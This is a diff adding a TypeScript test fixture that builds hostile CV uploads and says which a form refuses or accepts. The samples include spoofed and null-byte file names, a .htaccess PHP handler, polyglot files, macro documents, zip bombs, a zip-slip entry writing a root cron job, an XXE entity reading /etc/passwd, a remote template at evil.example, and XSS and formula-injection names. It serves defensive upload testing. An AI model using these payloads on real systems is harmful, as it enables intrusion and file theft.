@@ -1,0 +1,246 @@
+/** Files that somebody sends to do harm, and how a form brings them: for the table in hostile-uploads.test.ts. */
+import { request } from "node:http";
+import { deflateRawSync } from "node:zlib";
+import { contentTypes, makeDoc, makeDocx, makePdf, makeZip, WORD_XML } from "../unit/uploads/make-files";
+
+export const BOUNDARY = "----hostile";
+
+/** A part of the form, as it is written. */
+export interface Part {
+  /** Behind `form-data; `. */
+  disposition: string;
+  /** `null`: the part doesn't say. */
+  type: string | null;
+  content: Buffer;
+}
+
+export const PDF = makePdf();
+const HTML = "<html><body><script>alert(1)</script></body></html>";
+const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
+const PNG = Buffer.from("89504e470d0a1a0a", "hex");
+const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
+const withScript = makePdf({
+  inside: "2 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n",
+});
+const withTemplate = makeDocx({
+  more: [
+    {
+      name: "word/_rels/settings.xml.rels",
+      content:
+        '<Relationships><Relationship Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    },
+  ],
+});
+const docm = makeDocx({
+  types: contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml"),
+  more: [{ name: "word/vbaProject.bin", content: "Sub AutoOpen()" }],
+});
+const DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
+/** What Word writes when a document has a password: a compound file around the encrypted one. */
+const withPassword = makeDoc([
+  { name: "EncryptionInfo", type: 2 },
+  { name: "EncryptedPackage", type: 2 },
+]);
+
+/** A file for the field `cv`. @param more behind the name, as it is */
+export const cv = (
+  name: string,
+  content: Buffer | string = PDF,
+  type: string | null = "application/pdf",
+  more = "",
+): Part => ({
+  disposition: `name="cv"; filename="${name}"${more}`,
+  type,
+  content: Buffer.from(content),
+});
+const docx = (content: Buffer, name = "cv.docx") => cv(name, content, DOCX_TYPE);
+
+/** Keys of `forms:messages`. */
+export type Refusal =
+  | "file_type"
+  | "file_name"
+  | "file_to_heavy"
+  | "file_empty"
+  | "file_macros"
+  | "file_locked"
+  | "file_bomb";
+
+/** Each is refused with its sentence, beside its field. */
+export const REFUSED: readonly [what: string, sent: Part, sentence: Refusal][] = [
+  // Names.
+  ["a runnable extension before the last one", cv("cv.php.pdf"), "file_name"],
+  ["a runnable extension behind the right one", cv("cv.pdf.exe"), "file_type"],
+  ["two runnable extensions", cv("cv.js.html.pdf"), "file_name"],
+  ["a null byte, encoded, before another extension", cv("cv.php%00.pdf"), "file_name"],
+  ["a null byte as it is", cv("cv.php\0.pdf"), "file_name"],
+  ["letters read from right to left, so that fdp.exe looks like exe.pdf", cv("cv\u202efdp.exe"), "file_name"],
+  ["letters read from right to left before the right extension", cv("cv\u202eexe.pdf"), "file_name"],
+  ["a name that isn't seen", cv("\u200b\u200b.pdf"), "file_name"],
+  ["a name of 300 letters", cv(`${"a".repeat(300)}.pdf`), "file_name"],
+  ["the extension alone", cv(".pdf"), "file_name"],
+  ["a device of Windows", cv("aux.pdf"), "file_name"],
+  ["a dot that only looks like one", cv("cv\u2024pdf"), "file_type"],
+  ["a stream of NTFS behind the name", cv("cv.php::$DATA"), "file_type"],
+  ["a name in UTF-8 alone", { ...cv(""), disposition: "name=\"cv\"; filename*=UTF-8''cv.exe" }, "file_type"],
+  [
+    "a configuration of a web server",
+    cv(".htaccess", "AddType application/x-httpd-php .pdf", "text/plain"),
+    "file_type",
+  ],
+  // Types.
+  ["a PDF that is said to be a page", cv("cv.pdf", PDF, "text/html"), "file_type"],
+  ["a program that is said to be a PDF", cv("cv.exe", "MZ\x90\0\x03", "application/pdf"), "file_type"],
+  ["no type, which means that it is a text", cv("cv.pdf", PDF, null), "file_type"],
+  ["a picture", cv("cv.png", PNG, "image/png"), "file_type"],
+  // Contents.
+  ["nothing in it", cv("cv.pdf", ""), "file_empty"],
+  ["5 MB and a byte", cv("cv.pdf", makePdf({ size: 5_242_881 })), "file_to_heavy"],
+  ["20 MB", cv("cv.pdf", makePdf({ size: 20_000_000 })), "file_to_heavy"],
+  ["a page called PDF", cv("cv.pdf", HTML), "file_type"],
+  ["a drawing with a script called PDF", cv("cv.pdf", SVG), "file_type"],
+  ["a picture called PDF", cv("cv.pdf", PNG), "file_type"],
+  ["a PDF that is a page as well", cv("cv.pdf", makePdf({ inside: `% ${HTML}\n` })), "file_type"],
+  ["a picture that is a PDF as well", cv("cv.pdf", Buffer.concat([Buffer.from("GIF89a "), PDF])), "file_type"],
+  [
+    "a PDF that is an archive as well",
+    cv("cv.pdf", Buffer.concat([PDF, makeZip([{ name: "a.exe", content: "MZ" }])])),
+    "file_type",
+  ],
+  ["a PDF cut off in the middle", cv("cv.pdf", makePdf({ size: 90_000 }).subarray(0, 40_000)), "file_type"],
+  ["a document with macros called .docx", docx(docm), "file_macros"],
+  ["a document with macros under its own name", docx(docm, "cv.docm"), "file_type"],
+  [
+    "a bomb: one part of 200 MB",
+    docx(makeDocx({ more: [{ name: "word/media/1.bmp", content: zeros(200) }] })),
+    "file_bomb",
+  ],
+  [
+    "a bomb: a hundred parts of 1 MB",
+    docx(
+      makeDocx({ more: Array.from({ length: 100 }, (_, n) => ({ name: `word/media/${n}.bmp`, content: zeros(1) })) }),
+    ),
+    "file_bomb",
+  ],
+  [
+    "a bomb that says it is small",
+    docx(makeDocx({ more: [{ name: "word/media/1.bmp", content: zeros(70), declaredSize: 1_000 }] })),
+    "file_type",
+  ],
+  [
+    "a document with an encrypted part",
+    docx(makeDocx({ more: [{ name: "word/secret.xml", content: "x", encrypted: true }] })),
+    "file_locked",
+  ],
+  ["a document with a password called .docx", docx(withPassword), "file_type"],
+  ["a document with a password called .doc", cv("cv.doc", withPassword, "application/msword"), "file_type"],
+  [
+    "a document that unpacks outside of its folder",
+    docx(makeDocx({ more: [{ name: "../../../etc/cron.d/x", content: "* * * * * root sh" }] })),
+    "file_type",
+  ],
+  [
+    "a document that reads a file of the server",
+    docx(
+      makeDocx({
+        main: WORD_XML.replace("<w:document", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document'),
+      }),
+    ),
+    "file_type",
+  ],
+  [
+    "a document with a program in it",
+    docx(makeDocx({ more: [{ name: "word/embeddings/setup.exe", content: "MZ" }] })),
+    "file_type",
+  ],
+  ["a document cut off in the middle", docx(makeDocx().subarray(0, 300)), "file_type"],
+  ["any archive called .docx", docx(makeZip([{ name: "cv.pdf", content: PDF }])), "file_type"],
+  ["compressed nothing called .docx", docx(deflateRawSync(zeros(1))), "file_type"],
+];
+
+/** Each is taken as it is, under the name that the teams see, and is only ever handed out to be saved. */
+export const TAKEN: readonly [what: string, sent: Part, name: string][] = [
+  ["a PDF with JavaScript", cv("cv.pdf", withScript), "cv.pdf"],
+  ["a document whose template lies elsewhere", docx(withTemplate), "cv.docx"],
+  [
+    "a document with an archive in it",
+    docx(
+      makeDocx({ more: [{ name: "word/embeddings/1.xlsx", content: makeZip([{ name: "a", content: zeros(1) }]) }] }),
+    ),
+    "cv.docx",
+  ],
+  ["5 MB to the byte", cv("cv.pdf", makePdf({ size: 5_242_880 })), "cv.pdf"],
+  ["a path in the name", cv("../../../etc/cron.d/cv.pdf"), "cv.pdf"],
+  ["a path of Windows in the name", cv("C:\\\\Users\\\\x\\\\cv.pdf"), "cv.pdf"],
+  ["markup in the name", cv("<img src=x onerror=alert(1)>.pdf"), "-img src=x onerror=alert(1)-.pdf"],
+  ["a formula in the name", cv("=cmd|calc!A1.pdf"), "=cmd-calc!A1.pdf"],
+  ["a header in the name", cv("cv%0d%0aX-Injected: 1.pdf".replace("%0d%0a", " ")), "cv X-Injected- 1.pdf"],
+  [
+    "two names, of which only the first one counts",
+    cv("cv.pdf", PDF, "application/pdf", "; filename*=UTF-8''cv.exe"),
+    "cv.pdf",
+  ],
+];
+
+/** The bytes of a form; `whole: false` leaves its end away. */
+export function bodyOf(parts: readonly Part[], { whole = true } = {}): Buffer {
+  const pieces = parts.flatMap(({ disposition, type, content }) => [
+    Buffer.from(
+      `--${BOUNDARY}\r\nContent-Disposition: form-data; ${disposition}\r\n${type === null ? "" : `Content-Type: ${type}\r\n`}\r\n`,
+    ),
+    content,
+    Buffer.from("\r\n"),
+  ]);
+  return Buffer.concat(whole ? [...pieces, Buffer.from(`--${BOUNDARY}--\r\n`)] : pieces);
+}
+
+export const text = (name: string, value: string): Part => ({
+  ...{ disposition: `name="${name}"`, type: null },
+  content: Buffer.from(value),
+});
+
+interface PostOptions {
+  headers?: Record<string, string>;
+  /** Pieces that are sent so many milliseconds after each other. */
+  pauseMs?: number;
+  /** Sent, and then the line is cut. */
+  cutAfterBytes?: number;
+}
+
+/** Posts a form's bytes as they are. `status` 0: the line was cut. */
+export function postBytes(
+  url: string,
+  body: Buffer,
+  { headers = {}, pauseMs = 0, cutAfterBytes }: PostOptions = {},
+): Promise<{ status: number; html: string }> {
+  return new Promise((resolve) => {
+    const asked = request(url, {
+      method: "POST",
+      agent: false,
+      headers: {
+        "Content-Type": `multipart/form-data; boundary=${BOUNDARY}`,
+        ...("Transfer-Encoding" in headers ? {} : { "Content-Length": body.length }),
+        Accept: "text/html",
+        ...headers,
+      },
+    });
+    asked.on("response", (response) => {
+      const chunks: Buffer[] = [];
+      response.on("data", (chunk: Buffer) => chunks.push(chunk));
+      response.on("end", () =>
+        resolve({ status: response.statusCode ?? 0, html: Buffer.concat(chunks).toString("utf8") }),
+      );
+    });
+    asked.on("error", () => resolve({ status: 0, html: "" }));
+    if (cutAfterBytes !== undefined) {
+      asked.write(body.subarray(0, cutAfterBytes), () => asked.destroy());
+    } else if (pauseMs > 0) {
+      const step = Math.ceil(body.length / 10);
+      const send = (from: number): void => {
+        if (from >= body.length) return void asked.end();
+        asked.write(body.subarray(from, from + step));
+        setTimeout(send, pauseMs, from + step);
+      };
+      send(0);
+    } else asked.end(body);
+  });
+}
